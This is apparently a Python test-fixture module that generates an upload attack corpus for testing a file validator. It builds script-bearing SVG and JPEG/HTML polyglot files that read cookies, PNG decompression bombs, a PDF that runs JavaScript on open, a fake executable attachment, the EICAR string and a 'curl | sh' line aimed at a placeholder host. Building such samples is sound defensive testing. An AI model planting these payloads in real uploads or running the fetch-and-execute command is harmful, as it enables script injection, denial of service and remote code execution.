"""The upload attack corpus, generated here with Pillow and pypdf (no binary blobs)."""

import io
import struct
import zlib

from PIL import Image, ImageDraw
from PIL.ExifTags import IFD
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def png(width: int = 64, height: int = 48, colour: str = "#2563eb") -> bytes:
    image = Image.new("RGB", (width, height), colour)
    ImageDraw.Draw(image).rectangle((4, 4, width // 2, height // 2), fill="white")
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def jpeg(width: int = 80, height: int = 40, *, exif: Image.Exif | None = None) -> bytes:
    image = Image.new("RGB", (width, height), "#16a34a")
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif or Image.Exif())
    return out.getvalue()


def jpeg_with_gps_and_rotation() -> bytes:
    """A phone photo: GPS tags of a home, camera model, and 'rotate 90°' in EXIF."""
    exif = Image.Exif()
    exif[0x0110] = "Home Phone 15"  # Model
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    gps = exif.get_ifd(IFD.GPSInfo)
    gps[1] = "N"
    gps[2] = (31.0, 14.0, 5.5)
    gps[3] = "E"
    gps[4] = (121.0, 28.0, 12.25)
    return jpeg(80, 40, exif=exif)


def webp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (30, 20), "#f59e0b").save(out, "WEBP")
    return out.getvalue()


def heic() -> bytes:
    from pillow_heif import register_heif_opener

    register_heif_opener()
    out = io.BytesIO()
    Image.new("RGB", (64, 64), "#7c3aed").save(out, "HEIF")
    return out.getvalue()


def polyglot_jpeg_html() -> bytes:
    """A real JPEG with an HTML page appended: opens as a picture and, sniffed, as a page."""
    return jpeg() + b"<html><body><script>alert(document.cookie)</script></body></html>"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.domain)</script></svg>"
    )


def html_page() -> bytes:
    return b"<!doctype html><html><script>alert(1)</script></html>"


def png_header_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG whose header claims 3.6 billion pixels, with a tiny body: decoding would need
    gigabytes. Hand-written chunks, so the test never builds the huge image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack("!I", len(data)) + body + struct.pack("!I", zlib.crc32(body))

    ihdr = struct.pack("!IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\0" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def png_decompression_bomb(side: int = 3000) -> bytes:
    """A real, tiny file (a few KB) that decodes to side×side pixels of one colour."""
    out = io.BytesIO()
    Image.new("L", (side, side), 0).save(out, "PNG", optimize=True)
    return out.getvalue()


def pdf_clean() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _javascript_action(script: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    )


def pdf_with_javascript() -> bytes:
    """Runs a script when opened (an /OpenAction of type /JavaScript)."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(
        _javascript_action("app.alert('pwned');")
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_archive() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    return out.getvalue()


def windows_executable() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 56 + b"PE\0\0"


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid | sh\n"
